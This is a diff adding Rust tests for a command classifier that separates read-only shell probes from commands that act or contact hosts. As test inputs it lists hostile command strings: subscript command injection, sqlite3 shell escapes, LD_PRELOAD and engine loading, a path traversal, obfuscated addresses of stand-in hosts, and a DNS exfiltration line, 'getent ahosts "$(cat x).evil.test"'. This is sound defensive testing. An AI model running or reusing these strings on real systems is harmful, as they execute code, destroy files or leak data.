@@ -83,6 +83,99 @@ fn a_shells_own_sockets_are_never_opened() {
 }
 
 #[test]
+fn no_annotation_makes_a_known_program_read_in_a_form_that_is_not_known_to() {
+    for command in [
+        "date 010100002026",
+        "sysctl a=b",
+        "ss -K dst x",
+        "tree -o x",
+        "xxd a b",
+        "file -C -m x",
+        "ip -batch x",
+        "ip netns exec x ls",
+        "sqlite3 x.db \".shell rm x\"",
+        "openssl x509 -in x -out y",
+        "openssl dgst -engine ./x.so y",
+        "LD_PRELOAD=./x ls",
+        "PATH=. ls",
+        "IFS=x ls",
+        "coproc rm x",
+        "let 'a[$(rm x)]'",
+        "mapfile x",
+        "printf -v 'a[$(rm x)]' x",
+        "test -v 'a[$(rm x)]'",
+        "trap 'rm x' EXIT",
+        "while true; do ls; done",
+        "until false; do ls; done",
+        "ls &",
+        "redis-cli CONFIG GET *",
+        "kubectl cluster-info dump",
+        "nc localhost 80",
+        "sort -o x y",
+        "git var -l",
+    ] {
+        assert_eq!(shell_probes(command), Vec::<String>::new(), "{command}");
+    }
+}
+
+#[test]
+fn a_program_that_only_its_author_knows_runs_without_an_address() {
+    for command in [
+        "mytool --check",
+        "mytool config.yml 1.4.2",
+        "./check.sh",
+        "sh check.sh",
+        "mytool \"$DB_HOST\"",
+        "mytool test:ci",
+    ] {
+        assert!(!shell_probes(command).is_empty(), "{command}");
+    }
+    let line = "- [ ] ``mytool db.example.com`` <!-- gonogo: probe -->\n";
+    let found = compile(format!("## Phase 1: x\n\n{line}").as_bytes()).diagnostics;
+    assert!(
+        found
+            .iter()
+            .any(|found| found.message.contains("would dial `db.example.com`")),
+        "{found:?}"
+    );
+}
+
+#[test]
+fn the_projects_own_code_runs_when_its_author_says_that_it_reads_and_not_before() {
+    for command in [
+        "python manage.py check --deploy",
+        "flask routes",
+        "rails routes",
+        "celery -A app inspect ping",
+        "alembic current",
+    ] {
+        let probe = |line: String| {
+            let plan = compile(format!("## Phase 1: x\n\n- [ ] {line}\n").as_bytes()).plan;
+            matches!(plan.items().next().expect("an item").work, Work::Probe { .. })
+        };
+        assert!(!probe(format!("Look: `{command}`")), "{command}");
+        assert!(!probe(format!("`{command}` shows `x`")), "{command}");
+        assert!(probe(format!("`{command}` <!-- gonogo: probe -->")), "{command}");
+    }
+    for command in [
+        "npm run check",
+        "make check",
+        "npx check",
+        "python -m check",
+        "cargo test",
+        "pytest",
+    ] {
+        let plan = compile(format!("## Phase 1: x\n\n- [ ] Look: `{command}`\n").as_bytes()).plan;
+        let item = plan.items().next().expect("an item");
+        assert!(
+            matches!(item.work, Work::Action { .. }),
+            "{command}: {}",
+            item.why
+        );
+    }
+}
+
+#[test]
 fn ordinary_readers_still_are_probes() {
     for command in [
         "ls",
@@ -359,6 +452,36 @@ snyk test -- --build
 pip check --python ./evil
 ruff check .
 ruff check --config x .
+gpg --verify x --auto-key-retrieve
+gpg --list-keys --keyserver hkp://evil
+service ../../tmp/x status
+mytool db.example.com
+mytool --target=db.example.com
+mytool -hdb.example.com
+mytool db:5432
+mytool user@host:path
+mytool host.test:/srv
+mytool [2001:db8::1]:80
+mytool gopher+x://evil/x
+mytool //evil.test/x
+mytool 2130706433
+mytool 0x7f000001
+mytool 0177.0.0.1
+mytool 10.1
+mytool evil.test/x.yml
+mytool http:evil.test
+mytool "host=evil.test user=x"
+mytool a,10.0.0.1
+sh check.sh db.example.com
+./check.sh db.example.com
+getent hosts evil.test
+getent ahosts "$(cat x).evil.test"
+sleep infinity
+sleep 1d
+sort /dev/zero
+grep x /dev/zero
+wc -c < /dev/zero
+sha256sum /dev/sda
 "#;
 
 #[test]
